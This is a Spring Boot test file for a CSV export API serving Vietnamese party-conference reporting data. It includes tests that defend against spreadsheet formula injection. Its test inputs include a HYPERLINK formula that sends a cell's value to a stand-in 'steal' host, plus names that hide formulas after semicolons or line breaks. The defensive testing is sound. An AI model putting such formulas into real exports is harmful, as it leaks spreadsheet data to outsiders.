package vn.tonghop.api;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import vn.tonghop.jobs.IngestRunner;
import vn.tonghop.units.ReferenceFiles;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

@SpringBootTest(properties = "tonghop.intake.stable-for=0s")
@AutoConfigureMockMvc
@WithMockUser(roles = "ANALYST")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CsvApiTests {

	private static final String FORMULA = "=HYPERLINK(\"http://example.invalid/steal?x=\"&A1,\"Bấm vào đây\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcTemplate jdbc;

	@BeforeAll
	void ingestExamples(@Autowired ReferenceFiles reference, @Autowired IngestRunner runner, @TempDir Path work)
			throws Exception {
		IngestedExamples.load(this.jdbc, reference, runner, work);
		// a unit whose name was typed as a formula, expected to report in Thanh Hóa
		this.jdbc.update("INSERT INTO tonghop.unit (code, name, parent_code, kind, source) VALUES ('38-X', ?, '38', "
				+ "'district', 'test')", FORMULA);
	}

	@Test
	void formatCsvGivesTheSameRowsAsJsonWithAHeaderLine() throws Exception {
		// when
		MvcResult result = csv(get("/api/conferences/HNTW8-K13/units").param("format", "csv"));

		// then
		assertThat(result.getResponse().getContentType()).isEqualTo("text/csv;charset=UTF-8");
		assertThat(result.getResponse().getHeader("X-Total-Count")).isEqualTo("1");
		byte[] body = result.getResponse().getContentAsByteArray();
		assertThat(body).startsWith(0xEF, 0xBB, 0xBF);
		List<CsvRecord> rows = rows(body);
		assertThat(rows.get(0).getFields()).containsExactly("conferenceCode", "provinceCode", "provinceName",
				"districtCode", "reportingUnitCode", "reportingUnitName", "points", "pointsCentral", "pointsProvince",
				"pointsDistrict", "pointsGrassroots", "pointsCell", "participants", "membersAttending",
				"othersAttending", "membersTotal", "membersStudied", "coveragePct", "unitsExpected", "unitsReported");
		assertThat(rows).hasSize(2);
		assertThat(rows.get(1).getFields()).containsExactly("HNTW8-K13", "20", "Tỉnh Lạng Sơn", "20-KCQ", "20-KCQ",
				"Đảng bộ Khối các cơ quan tỉnh Lạng Sơn", "64", "0", "0", "1", "63", "0", "3113",
				rows.get(1).getField(13), rows.get(1).getField(14), "4336", "3252", "75.0", "1", "1");
		assertThat(Long.parseLong(rows.get(1).getField(13)) + Long.parseLong(rows.get(1).getField(14))).isEqualTo(3113);
	}

	@Test
	void acceptTextCsvIsTheSameAsFormatCsvWhichWinsOverAccept() throws Exception {
		// when
		byte[] byParameter = csv(get("/api/conferences/NQDH13/provinces").param("format", "csv"))
			.getResponse().getContentAsByteArray();
		byte[] byHeader = csv(get("/api/conferences/NQDH13/provinces").accept("text/csv"))
			.getResponse().getContentAsByteArray();

		byte[] parameterOverHeader = csv(get("/api/conferences/NQDH13/provinces").param("format", "csv")
			.accept("application/json")).getResponse().getContentAsByteArray();

		// then
		assertThat(byHeader).isEqualTo(byParameter);
		assertThat(parameterOverHeader).isEqualTo(byParameter);
		assertThat(rows(byHeader)).hasSize(4);
	}

	@Test
	void aFormatNoTypeHasIsRefusedWithAProblem() throws Exception {
		// when a format is asked for that names no type at all, as a typo does
		this.mvc.perform(get("/api/conferences/NQDH13/provinces").param("format", "cvs"))
			// then the refusal says which formats there are, as for a type the listing does not serve
			.andExpect(status().isNotAcceptable())
			.andExpect(jsonPath("$.detail").value(containsString("text/csv")));
	}

	@Test
	void anEmptyPageIsStillAHeaderLine() throws Exception {
		// when
		List<CsvRecord> rows = rows(csv(get("/api/conferences/NQDH13/units").param("province", "20")
			.param("format", "csv")).getResponse().getContentAsByteArray());

		// then
		assertThat(rows).singleElement().satisfies(header -> assertThat(header.getField(0)).isEqualTo("conferenceCode"));
	}

	@Test
	void textThatLooksLikeAFormulaIsWrittenAsText() throws Exception {
		// when
		MvcResult result = csv(get("/api/conferences/NQDH13/completeness").param("province", "38").param("format", "csv"));

		// then the name opens as text in Excel and LibreOffice
		List<CsvRecord> rows = rows(result.getResponse().getContentAsByteArray());
		assertThat(rows.get(0).getField(3)).isEqualTo("unitName");
		assertThat(rows).extracting(row -> row.getField(2)).containsExactly("unitCode", "38", "38-X", "380");
		assertThat(rows.get(2).getField(3)).isEqualTo("'" + FORMULA);
		// and JSON, which no spreadsheet runs, keeps it as it is
		this.mvc.perform(get("/api/conferences/NQDH13/completeness").param("unit", "38-X"))
			.andExpect(jsonPath("$.items[0].unitName").value(FORMULA));
	}

	@Test
	void noCellStartsAFormulaWhenExcelSplitsTheFileAtSemicolonsAndLineBreaks() throws Exception {
		// given names that hide a formula after a ';' or a line break, expected to report in Lạng Sơn
		String[] names = { "Đảng bộ Y;=HYPERLINK(\"http://example.invalid/x\",\"Bấm\")", "Đảng bộ Z\n@SUM(1+1)",
				"Đảng bộ W;\"+1+1\"", "Đảng bộ V;-1+1" };
		for (int i = 0; i < names.length; i++) {
			this.jdbc.update("INSERT INTO tonghop.unit (code, name, parent_code, kind, source) VALUES (?, ?, '20', "
					+ "'district', 'test')", "20-F" + i, names[i]);
		}

		// when
		byte[] body = csv(get("/api/conferences/NQDH13/completeness").param("province", "20").param("format", "csv"))
			.getResponse().getContentAsByteArray();

		// then Excel where ';' is the list separator, as in a Vietnamese locale, splits a double-clicked
		// CSV at every ';' and line break: none of the cells it makes starts a formula
		String text = new String(body, StandardCharsets.UTF_8);
		assertThat(text.split(";|\r\n|\r|\n")).allSatisfy(cell -> assertThat(cell.replaceFirst("^\"+", ""))
			.doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@"));
		// and read as RFC 4180, each name is the name with an apostrophe before the formula only
		assertThat(rows(body)).extracting(row -> row.getField(3))
			.contains("Đảng bộ Y;'=HYPERLINK(\"http://example.invalid/x\",\"Bấm\")", "Đảng bộ Z\n'@SUM(1+1)",
					"Đảng bộ W;'\"+1+1\"", "Đảng bộ V;'-1+1");
	}

	@Test
	void listsAreJoinedAndLinksLeftToJson() throws Exception {
		// when
		List<CsvRecord> conferences = rows(csv(get("/api/conferences").param("format", "csv"))
			.getResponse().getContentAsByteArray());
		List<CsvRecord> submissions = rows(csv(get("/api/submissions").param("format", "csv"))
			.getResponse().getContentAsByteArray());

		// then
		assertThat(conferences.get(0).getFields()).containsExactly("code", "title", "startDate", "endDate", "deadline",
				"scope");
		assertThat(conferences.get(1).getField(5)).isEmpty();
		assertThat(submissions.get(0).getFields()).doesNotContain("links").contains("id", "fileName", "firstProblem");
		assertThat(submissions).hasSize(4);
	}

	private MvcResult csv(MockHttpServletRequestBuilder request) throws Exception {
		return this.mvc.perform(request).andExpect(status().isOk()).andReturn();
	}

	private static List<CsvRecord> rows(byte[] body) {
		String text = new String(body, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		return CsvReader.builder().ofCsvRecord(text.substring(1)).stream().toList();
	}

}
